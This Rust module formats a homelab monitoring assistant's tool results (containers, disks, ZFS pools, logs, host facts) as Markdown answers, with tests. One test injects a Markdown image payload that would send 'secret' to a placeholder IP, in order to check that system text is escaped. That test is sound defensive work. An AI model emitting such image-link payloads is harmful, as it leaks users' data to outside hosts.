//! How the builtin provider says each tool's result: one function per tool, chosen by an
//! exhaustive match on the catalog's [`ToolOutput`], so a tool without words here does not compile.
//!
//! Answers are Markdown meant to render as intended: paragraphs apart, a blank line before each
//! list, and no empty fields. Anything a container, a log or an alert put into a result is escaped.

use homelab_schemas::{
    monitoring::{ContainerDetails, ContainerLogs, ContainerStats, HostInfo, Problems, ZfsPools},
    ContainerInfo, SystemResources, ToolId, ToolOutput,
};

use homelab_understanding::{Kind, Understanding as Topics};

use super::say;

/// The answer's part for one tool result.
pub fn render(output: &ToolOutput, topics: &Topics) -> String {
    match output {
        ToolOutput::SystemResources(r) => resources(r, topics),
        ToolOutput::Containers(list) => containers(list, topics),
        ToolOutput::Problems(p) => problems(p),
        ToolOutput::HostInfo(h) => host(h, topics),
        ToolOutput::ZfsPools(z) => zfs(z),
        ToolOutput::TruenasStatus(t) => super::truenas::say(t),
        ToolOutput::ContainerDetails(d) => {
            super::stopped::details(d, topics.has(Kind::WhyStopped) || topics.has(Kind::Restarts))
        }
        ToolOutput::ContainerStats(s) => stats(s, topics),
        ToolOutput::ContainerLogs(l) => logs(l),
        // A moment named ("an hour ago", "at 3am") is compared with now.
        ToolOutput::History(h) => {
            super::history::history(h, topics.window.as_ref().is_some_and(|w| w.moment.is_some()))
        }
        ToolOutput::Processes(p) => super::processes::processes(p),
        // Who uses the network comes first, unless the question is about the host's interfaces.
        ToolOutput::Network(n) => super::network::network(n, !topics.has(Kind::Host)),
        ToolOutput::Events(e) => super::events::events(e, topics),
    }
}

/// Why a tool the question needs was not offered: the orchestrator offers only the tools that
/// can answer now (and are enabled).
pub fn not_offered(tool: ToolId) -> &'static str {
    match tool {
        ToolId::ZfsPools => "This host has no ZFS (or none that is visible here), so there are no pools to report.",
        ToolId::TruenasStatus => {
            "TrueNAS is not configured here: set TRUENAS_URL, TRUENAS_USERNAME and TRUENAS_API_KEY (a read-only \
             user's key) to see its pools, datasets, tasks, disks, apps and alerts."
        }
        ToolId::ContainerDetails | ToolId::ContainerStats | ToolId::ContainerLogs => {
            "Docker is not answering right now, so I can't look inside containers. Ask \"Which containers are \
             there?\" to see why."
        }
        ToolId::SystemResources
        | ToolId::Containers
        | ToolId::Problems
        | ToolId::HostInfo
        | ToolId::History
        | ToolId::Processes
        | ToolId::Network
        | ToolId::Events => "The monitoring tool needed for that is disabled on this server, so I can't look it up.",
    }
}

/// `**On nas:**`: the host a part of an answer is about.
pub fn host_label(host: &str) -> String {
    format!("**On {}:**", text(host))
}

/// `**nas**`.
pub fn host_name(host: &str) -> String {
    format!("**{}**", text(host))
}

/// Text from the system, escaped for the Markdown answer.
pub(super) fn text(value: &str) -> std::borrow::Cow<'_, str> {
    homelab_common::markdown::escape(value)
}

/// A heading line and its bullet list, with the blank line Markdown needs between them.
pub(super) fn bullets(head: &str, items: impl IntoIterator<Item = String>) -> String {
    let items: Vec<String> = items.into_iter().map(|i| format!("- {i}")).collect();
    format!("{head}\n\n{}", items.join("\n"))
}

pub(super) fn plural(n: usize, one: &str, many: &str) -> String {
    format!("{n} {}", if n == 1 { one } else { many })
}

fn resources(r: &SystemResources, topics: &Topics) -> String {
    let all = !topics.names_a_figure();
    let mut parts = Vec::new();
    if all || topics.has(Kind::Cpu) {
        parts.push(format!("CPU usage is {:.1}%.", r.cpu_percent));
    }
    if all || topics.has(Kind::Memory) {
        parts.push(format!(
            "Memory: {} used of {} ({:.1}%), {} available.",
            say::gib(r.memory_used_gb),
            say::gib(r.memory_total_gb),
            r.memory_percent,
            say::gib((r.memory_total_gb - r.memory_used_gb).max(0.0))
        ));
    }
    if all || topics.has(Kind::Disk) {
        if r.disk.is_empty() {
            parts.push("I found no filesystems over 1 GiB to report.".into());
        } else {
            parts.push(bullets(
                "Disk space:",
                r.disk.iter().map(|d| {
                    format!(
                        "`{}`: {} free of {} ({:.1}% used){}",
                        d.path.replace('`', "'"),
                        say::gib(d.free_gb),
                        say::gib(d.total_gb),
                        d.percent_used,
                        if d.percent_used >= 90.0 { " — nearly full" } else { "" }
                    )
                }),
            ));
        }
    }
    if all || topics.has(Kind::Load) {
        let [one, five, fifteen] = r.load_average;
        parts.push(format!("Load average (1, 5, 15 min): {one:.2}, {five:.2}, {fifteen:.2}."));
    }
    parts.join("\n\n")
}

/// `ports 0.0.0.0:8080 → 80/tcp; 443/tcp (not published)`, or `no ports`.
fn ports(ports: &std::collections::BTreeMap<String, Option<Vec<homelab_schemas::monitoring::PortBinding>>>) -> String {
    let ports: Vec<String> = ports
        .iter()
        .map(|(inside, bindings)| match bindings {
            Some(list) if !list.is_empty() => {
                let outside: Vec<String> = list.iter().map(|b| format!("{}:{}", b.host_ip, b.host_port)).collect();
                format!("{} → {inside}", outside.join(", "))
            }
            _ => format!("{inside} (not published)"),
        })
        .collect();
    if ports.is_empty() {
        "no ports".to_string()
    } else {
        format!("ports {}", ports.join("; "))
    }
}

fn describe(c: &ContainerInfo) -> String {
    let ports = ports(&c.ports);
    format!(
        "**{}** — {} ({}), image `{}`, {}",
        text(&c.name),
        c.state,
        text(&c.status),
        c.image.replace('`', "'"),
        ports
    )
}

/// The names closest to `wanted` (fewest edits, a name that contains it counting as one), up
/// to three that tie; none when even the closest is too far off to be a typo.
pub fn closest<'a>(wanted: &str, names: impl IntoIterator<Item = &'a str>) -> Vec<&'a str> {
    let wanted = wanted.to_lowercase();
    let scored: Vec<(usize, &str)> = names
        .into_iter()
        .map(|n| {
            let lower = n.to_lowercase();
            let edits = strsim::damerau_levenshtein(&wanted, &lower);
            (if lower.contains(&wanted) { edits.min(1) } else { edits }, n)
        })
        .collect();
    let Some(best) = scored.iter().map(|(d, _)| *d).min() else { return Vec::new() };
    if best > (wanted.chars().count() / 3).max(2) {
        return Vec::new();
    }
    scored.into_iter().filter(|(d, _)| *d == best).take(3).map(|(_, n)| n).collect()
}

/// A question about one container that names none of them: which one?
fn which_container(list: &[ContainerInfo]) -> String {
    let names: Vec<String> = list.iter().take(20).map(|c| format!("**{}**", text(&c.name))).collect();
    let more = if list.len() > 20 { format!(" and {} more", list.len() - 20) } else { String::new() };
    format!("Which container do you mean? There are {}: {}{more}.", list.len(), names.join(", "))
}

/// "There is no container named 'x'", with the closest names when there are any.
pub fn no_such_container(wanted: &str, list: &[ContainerInfo]) -> String {
    let near = closest(wanted, list.iter().map(|c| c.name.as_str()));
    let wanted = text(wanted);
    match near.as_slice() {
        [] if list.is_empty() => format!("There is no container named '{wanted}': this host has no containers."),
        [] => format!(
            "There is no container named '{wanted}', and none has a similar name. Ask \"which containers are \
             there?\" to see all {}.",
            list.len()
        ),
        names => {
            let names: Vec<String> = names.iter().map(|n| format!("**{}**", text(n))).collect();
            format!("There is no container named '{wanted}'. Did you mean {}?", names.join(" or "))
        }
    }
}

fn containers(list: &[ContainerInfo], topics: &Topics) -> String {
    if list.is_empty() {
        return "There are no containers on this host (none running, none stopped).".into();
    }
    let running: Vec<&ContainerInfo> = list.iter().filter(|c| c.state == "running").collect();
    let stopped: Vec<&ContainerInfo> = list.iter().filter(|c| c.state != "running").collect();
    let lines = |set: &[&ContainerInfo]| set.iter().map(|c| describe(c)).collect::<Vec<_>>();
    let named: Vec<&ContainerInfo> = list.iter().filter(|c| topics.containers.contains(&c.name)).collect();
    if !named.is_empty() {
        return lines(&named).iter().map(|l| format!("- {l}")).collect::<Vec<_>>().join("\n");
    }
    // One container was asked about, and none of these is it.
    let one_asked = topics.kinds.iter().any(|k| k.is_about_one_container() || *k == Kind::ContainerUsage);
    let listing = topics.has(Kind::Stopped) || topics.has(Kind::Overview);
    match &topics.unmatched {
        Some(wanted) if !listing => return no_such_container(wanted, list),
        None if one_asked => return which_container(list),
        _ => {}
    }
    let summary = format!(
        "There are {}: {} running and {} stopped.",
        plural(list.len(), "container", "containers"),
        running.len(),
        stopped.len()
    );
    if topics.has(Kind::Stopped) && !topics.has(Kind::Containers) {
        return if stopped.is_empty() {
            format!("No containers are stopped: all {} are running.", running.len())
        } else {
            bullets(&format!("{} of {} containers are not running:", stopped.len(), list.len()), lines(&stopped))
        };
    }
    if topics.has(Kind::Overview) {
        return if stopped.is_empty() {
            format!("All {} containers are running.", list.len())
        } else {
            bullets(&format!("{summary} Not running:"), lines(&stopped))
        };
    }
    bullets(&summary, lines(&list.iter().collect::<Vec<_>>()))
}

fn problems(p: &Problems) -> String {
    if p.problems.is_empty() {
        return format!("No problems found. I checked: {}.", p.checked.join(", "));
    }
    bullets(
        &format!("{} found:", plural(p.problems.len(), "problem", "problems")),
        p.problems
            .iter()
            .map(|x| format!("**{}** {} ({}): {}", x.severity.as_str(), text(&x.subject), x.kind, text(&x.reason))),
    )
}

fn host(h: &HostInfo, topics: &Topics) -> String {
    let temps_asked = topics.has(Kind::Temperature);
    let net_asked = topics.has(Kind::Network);
    let specific = !topics.has(Kind::Host) && (topics.has(Kind::Uptime) || temps_asked || net_asked);
    let mut parts = Vec::new();
    if !specific || topics.has(Kind::Uptime) {
        let name = h.hostname.as_deref().map(|n| format!(" ({})", text(n))).unwrap_or_default();
        let booted = if h.boot_time.is_empty() {
            String::new()
        } else {
            format!(": it last booted on {}", say::date(&h.boot_time, Some(&h.timezone)))
        };
        parts.push(format!("The server{name} has been up for {}{booted}.", h.uptime));
    }
    if !specific {
        let os = match (&h.os, &h.kernel) {
            (Some(os), Some(kernel)) => format!("It runs {} (kernel {}) on ", text(os), text(kernel)),
            (Some(os), None) => format!("It runs {} on ", text(os)),
            (None, Some(kernel)) => format!("It runs kernel {} on ", text(kernel)),
            (None, None) => "It has ".to_string(),
        };
        parts.push(format!("{os}{}.", plural(h.cpu_cores, "CPU core", "CPU cores")));
    }
    if !specific || temps_asked {
        if h.temperatures.is_empty() {
            parts.push("No temperature sensors are visible on this host.".into());
        } else {
            parts.push(bullets(
                "Temperatures:",
                h.temperatures.iter().map(|t| format!("{}: {:.1} °C", text(&t.label), t.celsius)),
            ));
        }
    }
    if (!specific || net_asked) && !h.network_interfaces.is_empty() {
        parts.push(bullets(
            "Network interfaces (totals since boot):",
            h.network_interfaces.iter().map(|n| {
                format!(
                    "{}: {} received, {} sent",
                    text(&n.name),
                    say::bytes(n.received_bytes as f64),
                    say::bytes(n.transmitted_bytes as f64)
                )
            }),
        ));
    }
    parts.join("\n\n")
}

fn zfs(z: &ZfsPools) -> String {
    if z.pools.is_empty() {
        return z.note.clone().unwrap_or_else(|| "No ZFS pools found.".into());
    }
    let bad = z.pools.iter().filter(|p| !p.healthy).count();
    let head = if bad == 0 {
        "All ZFS pools are ONLINE.".to_string()
    } else {
        format!("{} {} attention:", plural(bad, "ZFS pool", "ZFS pools"), if bad == 1 { "needs" } else { "need" })
    };
    bullets(
        &head,
        z.pools.iter().map(|p| {
            let space = match (p.free_gb, p.size_gb) {
                (Some(free), Some(size)) => format!(", {} free of {}", say::gib(free), say::gib(size)),
                _ => String::new(),
            };
            format!("**{}**: {}{space}", text(&p.name), text(&p.state))
        }),
    )
}

fn logs(l: &ContainerLogs) -> String {
    let name = text(&l.name);
    if l.lines.is_empty() {
        return format!("{name} has no log output in that window.");
    }
    // Inside a fenced block nothing is Markdown; only a fence of its own could end it early.
    let mut out = format!(
        "Last {} of {name}:\n\n```\n{}\n```",
        plural(l.lines.len(), "log line", "log lines"),
        l.lines.join("\n").replace("```", "ʼʼʼ")
    );
    if let Some(note) = &l.note {
        out.push_str(&format!("\n\n(Note: {}.)", text(note)));
    }
    out
}

fn stats(s: &ContainerStats, topics: &Topics) -> String {
    if s.containers.is_empty() {
        return s.note.clone().unwrap_or_else(|| "No running containers to sample.".into());
    }
    let by_cpu = topics.prefers(Kind::Cpu, Kind::Memory);
    let mut sorted: Vec<_> = s.containers.iter().collect();
    if by_cpu {
        sorted.sort_by(|a, b| b.cpu_percent.total_cmp(&a.cpu_percent));
    } else {
        sorted.sort_by(|a, b| b.memory_used_mb.total_cmp(&a.memory_used_mb));
    }
    let lines: Vec<String> = sorted
        .iter()
        .map(|c| {
            format!(
                "**{}**: CPU {:.1}%, memory {:.0} MiB of {:.0} MiB ({:.1}%), network {:.1} MiB in / {:.1} MiB out \
                 since it started, disk {:.1} MiB read / {:.1} MiB written",
                text(&c.name),
                c.cpu_percent,
                c.memory_used_mb,
                c.memory_limit_mb,
                c.memory_percent,
                c.net_rx_mb,
                c.net_tx_mb,
                c.block_read_mb,
                c.block_write_mb
            )
        })
        .collect();
    let mut out = if lines.len() == 1 {
        lines[0].clone()
    } else {
        bullets(&format!("Running containers by {}:", if by_cpu { "CPU use" } else { "memory use" }), lines)
    };
    if let Some(note) = &s.note {
        out.push_str(&format!("\n\n({}.)", text(note)));
    }
    out
}

/// One container's facts in a sentence; [`super::stopped::details`] adds why it stopped.
pub(super) fn details(d: &ContainerDetails) -> String {
    container_facts(d, true)
}

/// The facts, with or without how it last stopped (exit code, OOM kill, finish time): without
/// when a paragraph of its own says why it stopped.
pub(super) fn container_facts(d: &ContainerDetails, with_stop: bool) -> String {
    let state = d.state.as_deref().filter(|s| !s.is_empty()).unwrap_or("in an unknown state");
    let mut facts = vec![format!("**{}** is {state}", text(&d.name))];
    if let Some(health) = &d.health {
        if let Some(status) = health.status.as_deref().filter(|s| !s.is_empty() && *s != "none") {
            let probe = health
                .last_output
                .as_deref()
                .filter(|o| !o.is_empty())
                .map(|o| format!(" (last check: {})", text(o)))
                .unwrap_or_default();
            facts.push(format!("health {status}{probe}"));
        }
    }
    facts.push(match d.restart_count {
        0 => "never restarted".to_string(),
        1 => "restarted once".to_string(),
        n => format!("restarted {n} times"),
    });
    if let Some(policy) = d.restart_policy.as_deref().filter(|p| !p.is_empty()) {
        facts.push(format!("restart policy {}", text(policy)));
    }
    if let Some(code) = d.exit_code.filter(|_| with_stop && matches!(d.state.as_deref(), Some("exited" | "dead"))) {
        facts.push(format!("last exit code {code}"));
    }
    if d.oom_killed && with_stop {
        facts.push("it was killed for running out of memory".into());
    }
    if let Some(error) = d.error.as_deref().filter(|e| !e.is_empty()) {
        facts.push(format!("error: {}", text(error)));
    }
    let zone = d.timezone.as_deref();
    if let Some(t) = d.started_at.as_deref().filter(|t| !t.is_empty()) {
        facts.push(format!("started {}", say::when(t, zone)));
    }
    if let Some(t) = d.finished_at.as_deref().filter(|t| !t.is_empty() && with_stop) {
        facts.push(format!("finished {}", say::when(t, zone)));
    }
    if let Some(image) = d.image.as_deref().filter(|i| !i.is_empty()) {
        facts.push(format!("image `{}`", image.replace('`', "'")));
    }
    let mounts: Vec<String> = d
        .mounts
        .iter()
        .filter_map(|m| Some(format!("{} → {}", text(m.source.as_deref()?), text(m.destination.as_deref()?))))
        .collect();
    if !d.ports.is_empty() {
        facts.push(ports(&d.ports));
    }
    if !mounts.is_empty() {
        facts.push(format!("mounts {}", mounts.join(", ")));
    }
    format!("{}.", facts.join(", "))
}

#[cfg(test)]
pub(super) mod tests {
    use super::super::answer::tests::understood;
    use super::*;
    use homelab_schemas::ToolId;
    use serde_json::{json, Value};

    pub fn resources_json() -> Value {
        json!({"cpu_percent": 12.5, "memory_total_gb": 16.0, "memory_used_gb": 4.25, "memory_percent": 26.56,
            "disk": [{"path": "/", "total_gb": 100.0, "used_gb": 40.0, "free_gb": 60.0, "percent_used": 40.0},
                     {"path": "/mnt/tank", "total_gb": 1000.0, "used_gb": 950.0, "free_gb": 50.0, "percent_used": 95.0}],
            "load_average": [0.52, 0.4, 0.33]})
    }

    pub fn containers_json() -> Value {
        json!([
            {"id": "aaaaaaaaaaaa", "name": "plex", "image": "plexinc/pms-docker:latest", "state": "running",
             "status": "Up 2 hours", "created": "2026-01-01T00:00:00Z", "ports": {"32400/tcp": [{"host_ip": "0.0.0.0", "host_port": "32400"}]}},
            {"id": "bbbbbbbbbbbb", "name": "nextcloud", "image": "nextcloud:28", "state": "exited",
             "status": "Exited (1) 3 hours ago", "created": "2026-01-01T00:00:00Z", "ports": {}},
            {"id": "cccccccccccc", "name": "backup", "image": "restic:latest", "state": "created",
             "status": "Created", "created": "2026-01-01T00:00:00Z", "ports": {"8000/tcp": null}}
        ])
    }

    /// One question per tool that the builtin model maps to it, and a result of that tool. A tool
    /// added to the catalog fails to compile here until it has both.
    pub fn sample(tool: ToolId) -> (&'static str, Value) {
        match tool {
            ToolId::SystemResources => ("How much disk space is left?", resources_json()),
            ToolId::Containers => ("Which containers are stopped?", containers_json()),
            ToolId::Problems => (
                "Is anything wrong?",
                json!({"problems": [{"severity": "warning", "kind": "filesystem", "subject": "/mnt/tank",
                    "reason": "95.0% used, 50.00 GB free"}], "summary": "1 problem found.", "checked": ["filesystems"]}),
            ),
            ToolId::HostInfo => (
                "How long has the server been up?",
                json!({"hostname": "nas", "os": "Debian GNU/Linux 12", "kernel": "6.1.0", "uptime_seconds": 90061,
                    "uptime": "1 day, 1 hour, 1 minute", "boot_time": "2026-11-23T11:00:00+01:00",
                    "timezone": "Europe/Berlin", "cpu_cores": 4, "physical_cores": 4,
                    "temperatures": [{"label": "cpu", "celsius": 45.0, "critical_celsius": null}],
                    "network_interfaces": [{"name": "eth0", "received_bytes": 1073741824u64, "transmitted_bytes": 0}]}),
            ),
            ToolId::ZfsPools => (
                "Is my pool degraded?",
                json!({"pools": [{"name": "tank", "state": "ONLINE", "healthy": true, "mount": "/mnt/tank",
                    "size_gb": 1000.0, "used_gb": 400.0, "free_gb": 600.0, "percent_used": 40.0}], "note": null}),
            ),
            ToolId::TruenasStatus => (
                "Is a scrub running on tank?",
                json!({"configured": true, "report": {"topic": "overview", "alerts": [], "alerts_by_level": {},
                    "alerts_omitted": 0, "pools": [{"name": "tank", "status": "ONLINE", "healthy": true,
                    "status_detail": null, "size_gb": 1000.0, "used_gb": 400.0, "free_gb": 600.0, "percent_used": 40.0,
                    "scan": {"function": "SCRUB", "state": "SCANNING", "percentage": 42.5, "errors": 0,
                    "started": "2026-11-24T10:00:00Z", "ended": null, "ago": "1 hour ago", "seconds_left": 3600}}]}}),
            ),
            ToolId::ContainerDetails => (
                "What is the restart count of the sonarr container?",
                json!({"name": "sonarr", "id": "0123456789ab", "image": "linuxserver/sonarr", "state": "running",
                    "health": {"status": "healthy", "failing_streak": 0, "last_output": "ok", "last_exit_code": 0},
                    "restart_count": 3, "exit_code": 0, "oom_killed": false, "error": null,
                    "started_at": "2026-11-24T10:00:00Z", "finished_at": null, "ports": {},
                    "mounts": [{"source": "/mnt/tank/sonarr", "destination": "/config", "read_only": false}],
                    "labels": {}}),
            ),
            ToolId::ContainerStats => (
                "Which container uses the most memory?",
                json!({"containers": [
                    {"name": "plex", "cpu_percent": 3.5, "memory_used_mb": 812.0, "memory_limit_mb": 7900.0,
                     "memory_percent": 10.3, "net_rx_mb": 1.0, "net_tx_mb": 2.0, "block_read_mb": 3.0, "block_write_mb": 4.0},
                    {"name": "sonarr", "cpu_percent": 0.5, "memory_used_mb": 212.0, "memory_limit_mb": 7900.0,
                     "memory_percent": 2.7, "net_rx_mb": 1.0, "net_tx_mb": 2.0, "block_read_mb": 3.0, "block_write_mb": 4.0}],
                    "note": null}),
            ),
            ToolId::History => (
                "Is the disk filling up?",
                json!({"metric": "disk", "unit": "GB", "window": "24h", "source": "this host", "resolution_seconds": 60,
                    "series": [{"subject": "/mnt/tank", "samples": 1440, "from": "2026-11-23T12:00:00Z",
                        "to": "2026-11-24T12:00:00Z", "min": 900.0, "mean": 925.0, "max": 950.0,
                        "peak_at": "2026-11-24T12:00:00Z", "first": 900.0, "latest": 950.0, "trend": "rising",
                        "change_per_hour": 2.08, "total": 1000.0, "full_at": "2026-11-25T12:00:00Z",
                        "full_in": "about 24 hours"}],
                    "start": "2026-11-23T12:00:00Z", "end": "2026-11-24T12:00:00Z", "covered": "the last 24 hours",
                    "covered_seconds": 86400, "timezone": "UTC"}),
            ),
            ToolId::Processes => ("What is eating my CPU?", super::super::processes::tests::sample()),
            ToolId::Network => ("What's using my bandwidth?", super::super::network::tests::sample()),
            ToolId::Events => ("What happened last night?", super::super::events::tests::sample()),
            ToolId::ContainerLogs => (
                "Show me the logs of plex",
                json!({"name": "plex", "lines": ["Starting Plex", "Listening on 32400"], "line_count": 2, "note": null}),
            ),
        }
    }

    fn compose_one(question: &str, tool: ToolId, content: &str) -> String {
        super::super::answer::compose(&understood(question), &[(tool.name().to_string(), content.to_string())])
    }

    #[test]
    fn every_tool_is_asked_for_by_its_question_and_answered_in_prose() {
        for &tool in ToolId::ALL {
            let (question, result) = sample(tool);
            // Offered alone (with the container list), the tool is what the question calls.
            let offered = [tool, ToolId::Containers];
            let asked: Vec<ToolId> =
                homelab_understanding::plan::calls(&understood(question), &offered).into_iter().map(|c| c.0).collect();
            assert!(asked.contains(&tool), "{question:?} asks for {asked:?}, not {tool:?}");
            let answer = compose_one(question, tool, &result.to_string());
            assert!(!answer.is_empty() && answer != super::super::HELP, "{tool:?}: {answer}");
            for raw in ["{", "}", "null", "\"", "get_", "list_", " ,", "()"] {
                assert!(!answer.contains(raw), "{tool:?} answer has {raw:?}: {answer}");
            }
            let broken = compose_one(question, tool, "{\"unexpected\": true}");
            assert!(broken.ends_with("came back in a form I can't read."), "{tool:?}: {broken}");
            assert!(!broken.contains(tool.name()), "{broken}");
        }
    }

    fn parse(tool: ToolId, v: serde_json::Value) -> ToolOutput {
        ToolOutput::parse(tool, &v.to_string()).unwrap()
    }

    fn say(question: &str, tool: ToolId, v: serde_json::Value) -> String {
        render(&parse(tool, v), &understood(question))
    }

    #[test]
    fn history_is_said_with_what_it_covers_and_its_peak_time() {
        let (q, disk) = sample(ToolId::History);
        let said = say(q, ToolId::History, disk);
        assert!(
            said.starts_with("Over the last 24 hours: **/mnt/tank**: space used: 950.0 GiB of 1000.0 GiB now"),
            "{said}"
        );
        assert!(said.contains("full in about 24 hours (around 12:00 UTC on Nov 25)"), "{said}");
        let empty = json!({"metric": "container_cpu", "unit": "%", "window": "1h", "source": "this host",
            "resolution_seconds": 10, "series": [], "start": "2026-11-24T11:00:00Z", "end": "2026-11-24T12:00:00Z",
            "covered": "nothing", "covered_seconds": 0,
            "note": "No history for plex: it is exited, and containers are sampled only while they run."});
        assert_eq!(
            say("plex cpu history", ToolId::History, empty),
            "No history for plex: it is exited, and containers are sampled only while they run."
        );
    }

    #[test]
    fn problems_are_listed_with_severity() {
        let v = json!({"problems": [{"severity": "critical", "kind": "container", "subject": "plex", "reason": "unhealthy (Up 2 hours (unhealthy))"}],
            "checked": ["containers", "filesystems"], "summary": "1 problem found."});
        assert_eq!(
            say("Is anything wrong?", ToolId::Problems, v),
            "1 problem found:\n\n- **critical** plex (container): unhealthy (Up 2 hours (unhealthy))"
        );
        let none = json!({"problems": [], "checked": ["containers"], "summary": "No problems found."});
        assert_eq!(say("Is anything wrong?", ToolId::Problems, none), "No problems found. I checked: containers.");
    }

    #[test]
    fn text_from_the_system_cannot_become_an_image_or_a_link() {
        let leak = "![x](http://192.0.2.1/?d=secret) [click](http://192.0.2.2)";
        let details_answer = say(
            "details of web",
            ToolId::ContainerDetails,
            json!({"name": "web", "id": "abc", "state": "running", "image": "nginx", "restart_count": 0,
            "health": {"status": "unhealthy", "last_output": leak, "failing_streak": 1, "last_exit_code": 1},
            "exit_code": 0, "oom_killed": false, "error": null, "started_at": null, "finished_at": null,
            "ports": {}, "mounts": [], "labels": {}}),
        );
        let alert_answer = say(
            "TrueNAS alerts?",
            ToolId::TruenasStatus,
            json!({"configured": true, "report": {"topic": "alerts", "alerts": [{"level": "WARNING", "class": null,
                "text": leak, "since": null}], "alerts_by_level": {"WARNING": 1}, "alerts_omitted": 0}}),
        );
        let problems_answer = say(
            "anything wrong?",
            ToolId::Problems,
            json!({"problems": [{"severity": "warning", "kind": "container", "subject": "web", "reason": leak}],
                "checked": [], "summary": ""}),
        );
        for answer in [details_answer, alert_answer, problems_answer] {
            assert!(!answer.contains("![x]") && !answer.contains("[click]("), "{answer}");
            assert!(answer.contains("\\!\\[x\\](http://192.0.2.1/?d=secret)"), "{answer}");
        }
    }

    #[test]
    fn uptime_question_gets_the_uptime_and_missing_facts_leave_no_gaps() {
        let v = json!({"hostname": "nas", "uptime": "3 days, 2 hours", "uptime_seconds": 266400, "os": "Debian",
            "boot_time": "2026-12-02T01:12:00+01:00", "timezone": "Europe/Berlin",
            "kernel": null, "cpu_cores": 1, "physical_cores": null, "temperatures": [],
            "network_interfaces": [{"name": "eth0", "received_bytes": 891289u64, "transmitted_bytes": 5368709120u64}]});
        assert_eq!(
            say("When did the server last reboot?", ToolId::HostInfo, v.clone()),
            "The server (nas) has been up for 3 days, 2 hours: it last booted on Dec 2, 2026 at 01:12 CET."
        );
        let net = say("What are the network interface totals?", ToolId::HostInfo, v.clone());
        assert!(
            net.contains("Network interfaces (totals since boot):\n\n- eth0: 870 KiB received, 5.00 GiB sent"),
            "{net}"
        );
        let all = say("Tell me about the host", ToolId::HostInfo, v);
        assert!(all.contains("It runs Debian on 1 CPU core."), "{all}");
        assert!(!all.contains("()") && !all.contains(" ,") && !all.contains("null"), "{all}");
    }

    #[test]
    fn degraded_pools_are_called_out() {
        let v = json!({"pools": [{"name": "tank", "state": "DEGRADED", "healthy": false, "free_gb": 100.0, "size_gb": 1000.0,
            "mount": "/mnt/tank", "used_gb": 900.0, "percent_used": 90.0}], "note": null});
        assert_eq!(
            say("Is my pool ok?", ToolId::ZfsPools, v),
            "1 ZFS pool needs attention:\n\n- **tank**: DEGRADED, 100.00 GiB free of 1000.00 GiB"
        );
        assert_eq!(
            say("zfs?", ToolId::ZfsPools, json!({"pools": [], "note": "ZFS is not present on this host."})),
            "ZFS is not present on this host."
        );
    }

    #[test]
    fn logs_are_quoted_and_cut_notes_kept() {
        let v = json!({"name": "plex", "lines": ["started", "listening on 32400"], "line_count": 2,
            "note": "only the last 2 lines are shown"});
        assert_eq!(
            say("logs of plex", ToolId::ContainerLogs, v),
            "Last 2 log lines of plex:\n\n```\nstarted\nlistening on 32400\n```\n\n(Note: only the last 2 lines are shown.)"
        );
    }

    #[test]
    fn details_leave_out_what_is_empty() {
        let v = json!({"name": "web", "id": "abc", "state": "running", "image": "", "restart_count": 1,
            "health": {"status": "", "last_output": null, "failing_streak": null, "last_exit_code": null},
            "exit_code": 0, "oom_killed": false, "error": "", "started_at": "2026-01-01T00:00:00Z", "finished_at": null,
            "ports": {}, "mounts": [{"source": null, "destination": "/data", "read_only": false}], "labels": {}});
        let a = say("details of web", ToolId::ContainerDetails, v);
        assert_eq!(a, "**web** is running, restarted once, started 00:00 UTC on Jan 1.");
    }

    #[test]
    fn the_closest_names_are_suggested() {
        let names = ["plex", "plex-db", "sonarr", "radarr", "nextcloud"];
        assert_eq!(closest("plexx", names), vec!["plex"]);
        assert_eq!(closest("app-wbe", ["app-web", "app-db", "app-cache"]), vec!["app-web"]);
        assert_eq!(closest("sonar", names), vec!["sonarr"]);
        assert!(closest("zzzz", names).is_empty());
    }
}
